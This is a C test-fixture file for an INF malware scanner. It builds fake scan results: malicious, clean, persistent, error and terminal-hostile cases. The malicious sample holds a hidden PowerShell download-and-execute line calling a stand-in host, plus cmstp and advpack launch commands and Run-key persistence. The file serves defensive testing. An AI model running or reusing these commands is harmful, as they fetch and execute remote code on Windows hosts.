/* SPDX-License-Identifier: MIT */
#include "fake_result.h"

#include <stdlib.h>
#include <string.h>

#include <infscan/infscan.h>

#define COUNT(array) (sizeof(array) / sizeof(array)[0])
#define S(literal)                                                             \
    {                                                                          \
        "" literal, sizeof(literal) - 1                                        \
    }

struct infscan_result {
    struct infscan_summary summary;
    const struct infscan_plan *plans;
    size_t n_plans;
    const struct infscan_action *actions;
    size_t n_actions;
    const struct infscan_finding *findings;
    size_t n_findings;
    const struct infscan_indicator *indicators;
    size_t n_indicators;
    const struct infscan_diagnostic *diagnostics;
    size_t n_diagnostics;
    const struct infscan_limit_hit *limits;
    size_t n_limits;
    const struct infscan_effect *effects;
    size_t n_effects;
    const struct infscan_archive *archive;
    const struct infscan_string *lines;
    size_t n_lines;
};

struct infscan_difference {
    const struct infscan_change *changes;
    size_t n_changes;
    const struct infscan_result *before;
    const struct infscan_result *after;
};

struct infscan_document {
    struct infscan_document_summary summary;
    const struct infscan_document_section *sections;
    size_t n_sections;
};

#define SHA "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"

/* A malicious file. */

static const struct infscan_string evil_lines[] = {
    S("[Version]"),
    S("Signature=$chicago$"),
    S("[DefaultInstall]"),
    S("RunPreSetupCommands=Pre"),
    S("[Pre]"),
    S("powershell.exe -w hidden -enc SQBFAFgA"),
};

static const struct infscan_layer evil_layers[] = {
    {"powershell.encoded-command",
     S("IEX (New-Object Net.WebClient)\r\n"
       ".DownloadString('http://bad.example.invalid/a.ps1')"),
     NULL},
    {"powershell.evaluate", S("IEX $unknown"), "the variable is never set"},
};

static const struct infscan_link evil_chain[] = {
    {S("DefaultInstall"), S("RunPreSetupCommands"), {56, 23, 4, 1, NULL}},
    {S("Pre"), S(""), {87, 38, 6, 1, NULL}},
};

static const struct infscan_string evil_alternatives[] = {S("powershell.exe")};

static const struct infscan_member copy_members[] = {
    {"source", S("a.dll"), 0, 0},
    {"destination", S("C:\\Windows\\System32\\a.dll"), 0, 0},
};

static const struct infscan_member registry_members[] = {
    {"root", S("HKCU"), 0, 0}, {"key", S("Software\\Example"), 0, 0},
    {"value", S("Run"), 0, 0}, {"type", S("REG_DWORD"), 0, 0},
    {"data", S("7"), 1, 7},
};

static const struct infscan_action evil_actions[] = {
    {.id = 0,
     .kind = INFSCAN_RUN_COMMAND,
     .text = S("powershell.exe -w hidden -enc SQBFAFgA"),
     .alternatives = evil_alternatives,
     .n_alternatives = COUNT(evil_alternatives),
     .place = {87, 38, 6, 1, NULL},
     .chain = evil_chain,
     .n_chain = COUNT(evil_chain),
     .reachable = 1,
     .listed = 1,
     .layers = evil_layers,
     .n_layers = COUNT(evil_layers)},
    {.id = 1,
     .kind = INFSCAN_WRITE_REGISTRY,
     .text = S("HKCU\\Software\\Example -> Run = 7"),
     .reachable = 1,
     .members = registry_members,
     .n_members = COUNT(registry_members)},
    {.id = 2,
     .kind = INFSCAN_COPY_FILE,
     .text = S("a.dll -> C:\\Windows\\System32\\a.dll"),
     .reachable = 1,
     .listed = 1,
     .members = copy_members,
     .n_members = COUNT(copy_members)},
};

static const uint32_t evil_order[] = {2, 1, 0};

static const struct infscan_plan evil_plans[] = {
    {.launcher = "cmstp",
     .invocation = S("cmstp.exe /s FILE"),
     .section = S("DefaultInstall"),
     .targets = INFSCAN_TARGET_ALL,
     .strings = S(""),
     .actions = evil_order,
     .n_actions = COUNT(evil_order)},
    {.launcher = "advpack",
     .invocation = S("rundll32.exe advpack.dll,LaunchINFSection FILE"),
     .section = S("DefaultInstall"),
     .targets = INFSCAN_TARGET_X86,
     .strings = S("0407"),
     .actions = evil_order,
     .n_actions = COUNT(evil_order)},
};

static const char *const hidden_attack[] = {"T1564.003", NULL};
static const char *const download_attack[] = {"T1059.001", "T1105", NULL};
static const struct infscan_place evil_related[] = {{20, 4, 2, 1, NULL}};

static const struct infscan_place shape_related[] = {{56, 23, 4, 1, NULL}};
static const char *const no_attack[] = {NULL};
static const char *const evil_decisive[] = {"powershell.hidden-window", NULL};

static const struct infscan_finding evil_findings[] = {
    {.rule = "powershell.hidden-window",
     .title = "PowerShell runs in a hidden window",
     .why = "Nobody shall see it.",
     .severity = INFSCAN_HIGH,
     .score = 25,
     .attack = hidden_attack,
     .goodware_seen = 2,
     .goodware_of = 3000,
     .action = 0,
     .layer = INFSCAN_NO_INDEX,
     .match = S("-w hidden"),
     .place = {102, 9, 6, 16, NULL},
     .related = evil_related,
     .n_related = COUNT(evil_related)},
    {.rule = "powershell.download",
     .title = "PowerShell downloads",
     .why = "It runs what it finds there.",
     .severity = INFSCAN_LOW,
     .score = 5,
     .attack = download_attack,
     .action = 0,
     .layer = 0,
     .match = S("DownloadString"),
     .place = {117, 8, 6, 31, NULL}},
    {.rule = "shape.bare",
     .title = "All it does is run",
     .why = "It says so itself.",
     .severity = INFSCAN_MEDIUM,
     .score = 0,
     .attack = no_attack,
     .action = INFSCAN_NO_INDEX,
     .layer = INFSCAN_NO_INDEX,
     .match = S(""),
     .place = {87, 38, 6, 1, NULL},
     .related = shape_related,
     .n_related = COUNT(shape_related)},
};

static const struct infscan_indicator evil_indicators[] = {
    {"url",
     S("http://bad.example.invalid/a.ps1"),
     "download",
     0,
     0,
     {117, 8, 6, 31, NULL},
     0},
};

static const struct infscan_diagnostic evil_diagnostics[] = {
    {"INF0013",
     INFSCAN_LOW,
     0,
     S("no Signature that SetupAPI accepts"),
     {0, 9, 1, 1, NULL}},
    {"INF0017",
     INFSCAN_MEDIUM,
     1,
     S("quotes inside a word"),
     {0, 0, 0, 0, NULL}},
};

static const char *const evil_launchers[] = {"cmstp", "advpack", NULL};
static const uint32_t evil_copies[] = {2};
static const uint32_t evil_values[] = {1};
static const struct infscan_effect evil_effects[] = {
    {.kind = "file-written",
     .target = S("C:\\Windows\\System32\\a.dll"),
     .detail = S("a.dll"),
     .launchers = evil_launchers,
     .targets = INFSCAN_TARGET_ALL,
     .actions = evil_copies,
     .n_actions = COUNT(evil_copies),
     .place = {40, 5, 3, 1, NULL}},
    {.kind = "value-set",
     .target = S("HKCU\\Software\\Example"),
     .name = S("Run"),
     .detail = S("7"),
     .type = S("REG_DWORD"),
     .flags = S("only-if-absent"),
     .autostart = "logon",
     .launchers = evil_launchers,
     .targets = INFSCAN_TARGET_X86,
     .actions = evil_values,
     .n_actions = COUNT(evil_values),
     .place = {45, 5, 4, 1, "other.inf"}},
};

static const struct infscan_limit_hit evil_limits[] = {{"layers", 32}};

static const struct infscan_result evil = {
    .summary = {.path = S("evil.inf"),
                .raw_path = S("evil.inf"),
                .size = 125,
                .sha256 = SHA,
                .status = INFSCAN_RESULT_PARTIAL,
                .encoding = "utf-8",
                .dialect = "advanced-inf",
                .accepted = 1,
                .verdict = INFSCAN_MALICIOUS,
                .score = 92,
                .basis = {.margin = 12,
                          .decisive = evil_decisive,
                          .otherwise = INFSCAN_SUSPICIOUS},
                .text = S("cmstp.exe would run code from "
                          "http://bad.example.invalid/a.ps1"),
                .rules_digest = SHA},
    .plans = evil_plans,
    .n_plans = COUNT(evil_plans),
    .actions = evil_actions,
    .n_actions = COUNT(evil_actions),
    .findings = evil_findings,
    .n_findings = COUNT(evil_findings),
    .indicators = evil_indicators,
    .n_indicators = COUNT(evil_indicators),
    .diagnostics = evil_diagnostics,
    .n_diagnostics = COUNT(evil_diagnostics),
    .limits = evil_limits,
    .n_limits = COUNT(evil_limits),
    .effects = evil_effects,
    .n_effects = COUNT(evil_effects),
    .lines = evil_lines,
    .n_lines = COUNT(evil_lines),
};

/* A clean one. */

static const struct infscan_plan clean_plans[] = {{.launcher = "pnp"}};

static const struct infscan_result clean = {
    .summary = {.path = S("clean.inf"),
                .raw_path = S("clean.inf"),
                .size = 10,
                .sha256 = SHA,
                .status = INFSCAN_RESULT_OK,
                .encoding = "utf-16le",
                .bom = 1,
                .dialect = "driver",
                .refusal = "ERROR_WRONG_INF_STYLE",
                .refusal_line = 3,
                .verdict = INFSCAN_CLEAN,
                .text = S("Installs a driver."),
                .rules_digest = SHA},
    .plans = clean_plans,
    .n_plans = COUNT(clean_plans),
};

/* One that stays: a service, a shortcut, a driver and a library of Windows. */

static const struct infscan_member service_members[] = {
    {"name", S("Svc"), 0, 0},
    {"binary", S("C:\\Windows\\System32\\cmd.exe /c start /b \"t\" evil"), 0,
     0},
    {"start", S("2"), 1, 2},
};
static const struct infscan_layer service_layers[] = {
    {"cmd.command", S("start /b \"t\" C:\\evil.exe"), NULL}};
static const struct infscan_member driver_members[] = {
    {"name", S("Drv"), 0, 0},
    {"binary", S("C:\\Windows\\System32\\drivers\\drv.sys"), 0, 0},
};
static const struct infscan_member library_members[] = {
    {"path", S("C:\\Windows\\System32\\scrobj.dll"), 0, 0},
    {"entry", S("DllInstall"), 0, 0},
};
static const struct infscan_member shortcut_members[] = {
    {"name", S("Tool"), 0, 0},
    {"folder", S("C:\\Users\\Public\\Programs\\Startup"), 0, 0},
    {"target", S("C:\\tool.exe -q"), 0, 0},
};
static const struct infscan_action staying_actions[] = {
    {.id = 0,
     .kind = INFSCAN_INSTALL_SERVICE,
     .text = S("Svc | cmd | start=2"),
     .listed = 1,
     .layers = service_layers,
     .n_layers = COUNT(service_layers),
     .members = service_members,
     .n_members = COUNT(service_members)},
    {.id = 1,
     .kind = INFSCAN_INSTALL_SERVICE,
     .text = S("Drv | drv.sys"),
     .listed = 1,
     .members = driver_members,
     .n_members = COUNT(driver_members)},
    {.id = 2,
     .kind = INFSCAN_LOAD_DLL,
     .text = S("C:\\Windows\\System32\\scrobj.dll | DllInstall | "),
     .listed = 1,
     .members = library_members,
     .n_members = COUNT(library_members)},
    {.id = 3,
     .kind = INFSCAN_CREATE_SHORTCUT,
     .text = S("Tool.lnk -> C:\\tool.exe -q"),
     .listed = 1,
     .members = shortcut_members,
     .n_members = COUNT(shortcut_members)},
};
static const struct infscan_indicator staying_indicators[] = {
    {"service",
     S("Svc"),
     "persistence",
     0,
     INFSCAN_NO_INDEX,
     {0, 1, 1, 1, NULL},
     0},
};
static const uint32_t staying_order[] = {0, 1, 2, 3};
static const struct infscan_plan staying_plans[] = {
    {.launcher = "setupapi",
     .invocation = S("rundll32.exe setupapi.dll,InstallHinfSection"),
     .actions = staying_order,
     .n_actions = COUNT(staying_order)},
};
static const struct infscan_result staying = {
    .summary = {.path = S("stays.inf"),
                .raw_path = S("stays.inf"),
                .sha256 = SHA,
                .encoding = "utf-8",
                .dialect = "driver",
                .accepted = 1,
                .verdict = INFSCAN_SUSPICIOUS,
                .score = 40,
                .text = S("It stays."),
                .rules_digest = SHA},
    .plans = staying_plans,
    .n_plans = COUNT(staying_plans),
    .actions = staying_actions,
    .n_actions = COUNT(staying_actions),
    .indicators = staying_indicators,
    .n_indicators = COUNT(staying_indicators),
};

/* One that leaves nothing to say. */

static const struct infscan_result brief = {
    .summary = {.path = S("plain.inf"),
                .raw_path = S("plain.inf"),
                .sha256 = SHA,
                .encoding = "utf-8",
                .dialect = "driver",
                .accepted = 1,
                .verdict = INFSCAN_CLEAN,
                .text = S("Nothing."),
                .rules_digest = SHA},
};

/* A hostile one: escape sequences, NUL, bad UTF-8, surrogates, bidi marks. */

#define NASTY                                                                  \
    "a\x1b[2J\0b\xff\xed\xa0\x80"                                              \
    "c\xe2\x80\xae"                                                            \
    "d\xc2\x9b"                                                                \
    "e\xf3\xa0\x80\x81"                                                        \
    "f\r\n\"\\"

static const struct infscan_string nasty_lines[] = {S(NASTY)};
static const struct infscan_layer nasty_layers[] = {
    {"cmd.caret", S(NASTY), NULL}};
static const struct infscan_link nasty_chain[] = {
    {S(NASTY), S(NASTY), {0, 1, 1, 1, NULL}}};
static const struct infscan_member nasty_members[] = {
    {"source", S(NASTY), 0, 0}, {"destination", S(NASTY), 0, 0}};
static const struct infscan_action nasty_actions[] = {
    {.kind = INFSCAN_COPY_FILE,
     .text = S(NASTY),
     .place = {0, 5, 1, 1, NULL},
     .chain = nasty_chain,
     .n_chain = 1,
     .listed = 1,
     .layers = nasty_layers,
     .n_layers = 1,
     .members = nasty_members,
     .n_members = 2}};
static const struct infscan_finding nasty_findings[] = {
    {.rule = "test.nasty",
     .title = "nasty",
     .severity = INFSCAN_CRITICAL,
     .score = 50,
     .attack = hidden_attack,
     .action = 0,
     .layer = 0,
     .match = S(NASTY),
     .place = {0, 5, 1, 1, NULL}}};
static const struct infscan_indicator nasty_indicators[] = {
    {"path", S(NASTY), "payload", 0, INFSCAN_NO_INDEX, {0, 1, 1, 1, NULL}, 0}};
static const struct infscan_diagnostic nasty_diagnostics[] = {
    {"INF0009", INFSCAN_HIGH, 1, S(NASTY), {0, 1, 1, 1, NULL}}};
static const char *const nasty_launchers[] = {"cmstp", NULL};
static const uint32_t nasty_ids[] = {0};
static const struct infscan_effect nasty_effects[] = {
    {.kind = "file-written",
     .target = S(NASTY),
     .name = S(NASTY),
     .detail = S(NASTY),
     .flags = S(NASTY),
     .launchers = nasty_launchers,
     .actions = nasty_ids,
     .n_actions = 1,
     .place = {0, 5, 1, 1, NASTY}}};
static const struct infscan_plan nasty_plans[] = {
    {.launcher = "cmstp",
     .invocation = S(NASTY),
     .section = S(NASTY),
     .targets = INFSCAN_TARGET_ALL,
     .strings = S(NASTY)}};

static const struct infscan_result hostile = {
    .summary = {.path = S("bad\x1b]0;x\x07\xef\xbf\xbd.inf"),
                .raw_path = S("bad\x1b]0;x\x07\xfe.inf"),
                .size = 1,
                .sha256 = SHA,
                .status = INFSCAN_RESULT_OK,
                .encoding = "windows-1252",
                .dialect = "unknown",
                .accepted = 1,
                .verdict = INFSCAN_SUSPICIOUS,
                .score = 50,
                .text = S(NASTY),
                .rules_digest = SHA},
    .plans = nasty_plans,
    .n_plans = 1,
    .actions = nasty_actions,
    .n_actions = 1,
    .findings = nasty_findings,
    .n_findings = 1,
    .indicators = nasty_indicators,
    .n_indicators = 1,
    .diagnostics = nasty_diagnostics,
    .n_diagnostics = 1,
    .effects = nasty_effects,
    .n_effects = 1,
    .lines = nasty_lines,
    .n_lines = 1,
};

static const struct infscan_result failed = {
    .summary = {.path = S("gone.inf"),
                .raw_path = S("gone.inf"),
                .status = INFSCAN_RESULT_ERROR,
                .error_message = S("No such file or directory"),
                .verdict = INFSCAN_VERDICT_NONE,
                .text = S(""),
                .rules_digest = SHA},
};

/* A parsed model. */

static const struct infscan_string fields[] = {S("a\0b"), S("c")};
static const struct infscan_document_line document_lines[] = {
    {2, 1, S("Key"), 2},
    {3, 0, S(""), 2},
    {4, 1, S("c"), 1},
};
static const struct infscan_document_section document_sections[] = {
    {S("Version"), 1, COUNT(document_lines)},
    {S("Empty"), 9, 0},
};
static const struct infscan_limit_hit document_limit = {"lines", 3};
static const struct infscan_document document = {
    .summary = {.path = S("m\xef\xbf\xbd.inf"),
                .raw_path = S("m\xff.inf"),
                .encoding = "utf-8",
                .bom = 1,
                .refusal = "ERROR_EXPECTED_SECTION_NAME",
                .refusal_line = 1},
    .sections = document_sections,
    .n_sections = COUNT(document_sections),
};

const struct infscan_result *fake_malicious(void)
{
    return &evil;
}

const struct infscan_result *fake_staying(void)
{
    return &staying;
}

const struct infscan_result *fake_brief(void)
{
    return &brief;
}

const struct infscan_result *fake_clean(void)
{
    return &clean;
}

const struct infscan_result *fake_hostile(void)
{
    return &hostile;
}

const struct infscan_result *fake_error(void)
{
    return &failed;
}

/* A comparison: a thing that went, one that came, one reached otherwise. */

static const struct infscan_effect came = {.kind = "run-command",
                                           .target = S(NASTY),
                                           .launchers = nasty_launchers,
                                           .targets = INFSCAN_TARGET_AMD64,
                                           .place = {0, 5, 1, 1, NULL}};
static const struct infscan_change changes[] = {
    {NULL, &came},
    {&evil_effects[0], NULL},
    {&evil_effects[1], &nasty_effects[0]},
};
static const struct infscan_difference difference = {changes, COUNT(changes),
                                                     &evil, &hostile};
static const struct infscan_difference equal = {NULL, 0, &clean, &clean};

const struct infscan_difference *fake_difference(void)
{
    return &difference;
}

const struct infscan_difference *fake_equal(void)
{
    return &equal;
}

const struct infscan_change *
infscan_difference_changes(const struct infscan_difference *of, size_t *n)
{
    *n = of->n_changes;
    return of->changes;
}

const struct infscan_result *
infscan_difference_before(const struct infscan_difference *of)
{
    return of->before;
}

const struct infscan_result *
infscan_difference_after(const struct infscan_difference *of)
{
    return of->after;
}

char *fake_render_difference(const struct infscan_difference *of,
                             const struct infscan_render_options *options)
{
    struct fake_text text = {0};

    fake_write(&text, "", 0);
    if (infscan_render_difference(of, options, fake_write, &text) !=
        INFSCAN_OK) {
        abort();
    }
    return text.bytes;
}

const struct infscan_document *fake_document(void)
{
    return &document;
}

int fake_write(void *context, const char *bytes, size_t len)
{
    struct fake_text *text = context;
    char *larger = realloc(text->bytes, text->len + len + 1);

    if (!larger) {
        abort();
    }
    memcpy(larger + text->len, bytes, len);
    text->bytes = larger;
    text->len += len;
    larger[text->len] = '\0';
    return 0;
}

char *fake_render(const struct infscan_result *result,
                  const struct infscan_render_options *options)
{
    struct fake_text text = {0};

    fake_write(&text, "", 0);
    if (infscan_render_result(result, options, fake_write, &text) !=
        INFSCAN_OK) {
        abort();
    }
    return text.bytes;
}

char *fake_render_document(const struct infscan_document *model,
                           const struct infscan_render_options *options)
{
    struct fake_text text = {0};

    fake_write(&text, "", 0);
    if (infscan_render_document(model, options, fake_write, &text) !=
        INFSCAN_LIMIT) {
        abort();
    }
    return text.bytes;
}

/* The accessors. */

const struct infscan_summary *
infscan_result_summary(const struct infscan_result *result)
{
    return &result->summary;
}

const struct infscan_plan *
infscan_result_plans(const struct infscan_result *result, size_t *n)
{
    *n = result->n_plans;
    return result->plans;
}

const struct infscan_action *
infscan_result_actions(const struct infscan_result *result, size_t *n)
{
    *n = result->n_actions;
    return result->actions;
}

const struct infscan_finding *
infscan_result_findings(const struct infscan_result *result, size_t *n)
{
    *n = result->n_findings;
    return result->findings;
}

const struct infscan_indicator *
infscan_result_indicators(const struct infscan_result *result, size_t *n)
{
    *n = result->n_indicators;
    return result->indicators;
}

const struct infscan_diagnostic *
infscan_result_diagnostics(const struct infscan_result *result, size_t *n)
{
    *n = result->n_diagnostics;
    return result->diagnostics;
}

const struct infscan_effect *
infscan_result_effects(const struct infscan_result *result, size_t *n)
{
    *n = result->n_effects;
    return result->effects;
}

const struct infscan_limit_hit *
infscan_result_limits(const struct infscan_result *result, size_t *n)
{
    *n = result->n_limits;
    return result->limits;
}

const struct infscan_archive *
infscan_result_archive(const struct infscan_result *result)
{
    return result->archive;
}

struct infscan_string
infscan_result_place_line(const struct infscan_result *result,
                          const struct infscan_place *place)
{
    return infscan_result_line(result, place->line);
}

const struct infscan_companion *
infscan_result_companions(const struct infscan_result *result, size_t *n)
{
    (void)result;
    *n = 0;
    return NULL;
}

struct infscan_string infscan_result_line(const struct infscan_result *result,
                                          uint32_t line)
{
    if (line == 0 || line > result->n_lines) {
        return (struct infscan_string){"", 0};
    }
    return result->lines[line - 1];
}

const char *infscan_result_status_name(enum infscan_result_status status)
{
    static const char *const names[] = {"ok", "partial", "not-inf", "error"};

    return names[status];
}

const char *infscan_verdict_name(enum infscan_verdict verdict)
{
    static const char *const names[] = {"none", "clean", "suspicious",
                                        "malicious"};

    return names[verdict];
}

const char *infscan_action_kind_name(enum infscan_action_kind kind)
{
    switch (kind) {
    case INFSCAN_RUN_COMMAND:
        return "run-command";
    case INFSCAN_WRITE_REGISTRY:
        return "write-registry";
    case INFSCAN_COPY_FILE:
        return "copy-file";
    case INFSCAN_LOAD_DLL:
        return "load-dll";
    case INFSCAN_INSTALL_SERVICE:
        return "install-service";
    case INFSCAN_DELETE_REGISTRY:
    case INFSCAN_DELETE_FILE:
    case INFSCAN_RENAME_FILE:
    case INFSCAN_DELETE_SERVICE:
    case INFSCAN_CREATE_SHORTCUT:
    case INFSCAN_WRITE_INI:
    case INFSCAN_INCLUDE_INF:
    case INFSCAN_INSTALL_SOFTWARE:
    case INFSCAN_ADD_FILTER:
    case INFSCAN_SET_SECURITY:
    case INFSCAN_OTHER:
    case INFSCAN_N_ACTION_KINDS:
        break;
    }
    return "other";
}

const struct infscan_document_summary *
infscan_document_get_summary(const struct infscan_document *model)
{
    return &model->summary;
}

int infscan_document_get_section(const struct infscan_document *model,
                                 size_t index,
                                 struct infscan_document_section *out)
{
    if (index >= model->n_sections) {
        return 0;
    }
    *out = model->sections[index];
    return 1;
}

/* The first section has the lines. */
struct infscan_document_cursor {
    size_t at;
    size_t n;
};

struct infscan_document_cursor *
infscan_document_cursor_new(const struct infscan_document *model)
{
    (void)model;
    return calloc(1, sizeof(struct infscan_document_cursor));
}

void infscan_document_cursor_free(struct infscan_document_cursor *cursor)
{
    free(cursor);
}

void infscan_document_cursor_enter(struct infscan_document_cursor *cursor,
                                   size_t section)
{
    cursor->at = 0;
    cursor->n = section == 0 ? COUNT(document_lines) : 0;
}

int infscan_document_next(struct infscan_document_cursor *cursor,
                          struct infscan_document_line *out)
{
    if (cursor->at == cursor->n) {
        return 0;
    }
    *out = document_lines[cursor->at++];
    return 1;
}

struct infscan_string
infscan_document_field(struct infscan_document_cursor *cursor, size_t index)
{
    return cursor->at == COUNT(document_lines) ? fields[1] : fields[index];
}

const struct infscan_limit_hit *
infscan_document_cursor_limits(struct infscan_document_cursor *cursor,
                               size_t *n)
{
    (void)cursor;
    *n = 1;
    return &document_limit;
}

const char *infscan_version(void)
{
    return "0.0.0";
}
